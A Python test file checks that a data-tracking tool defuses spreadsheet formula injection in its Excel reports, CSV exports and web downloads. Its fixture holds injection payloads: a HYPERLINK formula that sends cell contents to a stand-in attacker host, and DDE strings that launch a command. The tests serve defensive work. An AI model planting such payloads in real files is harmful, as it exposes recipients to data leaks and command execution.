"""Formula injection: text that starts like a formula comes out as text in every download.

A source title such as ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` is imported with
``blueprint import``; the Excel report holds it as a string cell (no formula anywhere in the
file) and every CSV (the data package, the web downloads) escapes it with OWASP's leading
apostrophe, while numbers, negative ones included, stay numbers.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from blueprint_tracker.formats.observations_file import COLUMNS, read_observations

EVIL_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
EVIL_AGENCY = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_NOTE = "+cmd|' /C calc'!A0"
EVIL_TABLE = "-2+3+cmd|' /C calc'!A0"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def poisoned(mini_plan: Path, tmp_path: Path, cli: Callable[..., Any]) -> Path:
    path = tmp_path / "evil.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(COLUMNS)
        writer.writerow(
            [
                "gerd",
                "2022",
                "-12.5",
                "HK$ million",
                "",
                EVIL_AGENCY,
                EVIL_TITLE,
                "https://example.gov/evil",
                EVIL_TABLE,
                "media_report",
                "",
                "2023-12-20",
                EVIL_NOTE,
            ]
        )
    result = cli("import", str(path))
    assert result.code == 0, result.err
    return path


def _no_formula_cells(path: Path) -> list[str]:
    texts = []
    book = load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate)
                    texts.append(cell.value)
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    return texts


@pytest.mark.parametrize("lang", ["en", "zh-Hant"])
def test_xlsx_report_keeps_formula_like_text_as_text(
    poisoned: Path, tmp_path: Path, cli: Callable[..., Any], lang: str
) -> None:
    out = tmp_path / f"report-{lang}.xlsx"
    result = cli("report", "--format", "xlsx", "--lang", lang, "-o", str(out))
    assert result.code == 0, result.err
    texts = _no_formula_cells(out)
    assert EVIL_TITLE in texts and EVIL_NOTE in texts  # the text itself is kept, as text
    values = [
        c.value
        for s in load_workbook(out).worksheets
        for row in s.iter_rows()
        for c in row
        if c.value == -12.5
    ]
    assert values, "the negative figure is still a number"


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_escaped(rows: list[list[str]]) -> None:
    flat = [cell for row in rows for cell in row]
    for cell in flat:
        assert not cell.startswith(FORMULA_START) or cell.lstrip("+-").replace(".", "").isdigit(), (
            cell
        )
    assert "'" + EVIL_TITLE in flat


def test_data_package_csvs_escape_formula_like_text(
    poisoned: Path, tmp_path: Path, cli: Callable[..., Any]
) -> None:
    out = tmp_path / "package"
    assert cli("export", str(out)).code == 0
    observations = _cells((out / "observations.csv").read_text(encoding="utf-8"))
    _assert_escaped(observations)
    _assert_escaped(_cells((out / "sources.csv").read_text(encoding="utf-8")))
    assert "-12.5" in [c for row in observations for c in row]  # numbers stay numbers
    # the package's observations.csv is the import format: reading it back gives the text
    found, problems = read_observations(out / "observations.csv")
    assert not problems
    assert any(o.source.title == EVIL_TITLE and o.note == EVIL_NOTE for o in found)


def test_web_csv_downloads_escape_formula_like_text(poisoned: Path, data_dir: Path) -> None:
    from fastapi.testclient import TestClient

    from blueprint_tracker.config import Settings
    from blueprint_tracker.web.app import create_app

    with TestClient(create_app(Settings())) as client:
        response = client.get("/downloads/observations.csv")
        assert response.status_code == 200
        rows = _cells(response.text)
        _assert_escaped(rows)
        assert "-12.5" in [c for row in rows for c in row]
        workbook = client.get("/downloads/report-en.xlsx")
        assert workbook.status_code == 200
        path = data_dir.parent / "download.xlsx"
        path.write_bytes(workbook.content)
        assert EVIL_TITLE in _no_formula_cells(path)
